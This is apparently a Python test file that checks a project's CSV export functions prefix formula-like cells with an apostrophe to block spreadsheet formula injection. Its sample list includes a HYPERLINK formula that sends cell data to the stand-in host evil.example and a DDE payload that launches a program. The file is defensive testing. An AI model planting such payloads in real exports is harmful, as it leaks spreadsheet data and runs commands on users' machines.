import csv
import io

import pandas as pd

from core.exports import csv_bytes, rows_csv_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/"&A1,"click")', "+cmd|calc!A1", "@SUM(1+1)",
           "-2+3", "\tx", "\rx"]


def test_every_formula_prefix_is_neutralised_and_plain_text_kept():
    frame = pd.DataFrame({"feature": HOSTILE + ["photo_analysis"], "n": range(7)})
    rows = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode(), newline="")))
    assert [r["feature"] for r in rows] == ["'" + v for v in HOSTILE] + ["photo_analysis"]
    assert [r["n"] for r in rows] == [str(i) for i in range(7)]


def test_negative_numbers_stay_numbers():
    frame = pd.DataFrame({"delta": [-1.5, 2.0]})
    assert csv_bytes(frame).decode().splitlines()[1:] == ["-1.5", "2.0"]


def test_rows_writer_neutralises_too():
    out = rows_csv_bytes(["a"], [["=1+1"], ["ok"]]).decode().splitlines()
    assert out == ["a", "'=1+1", "ok"]
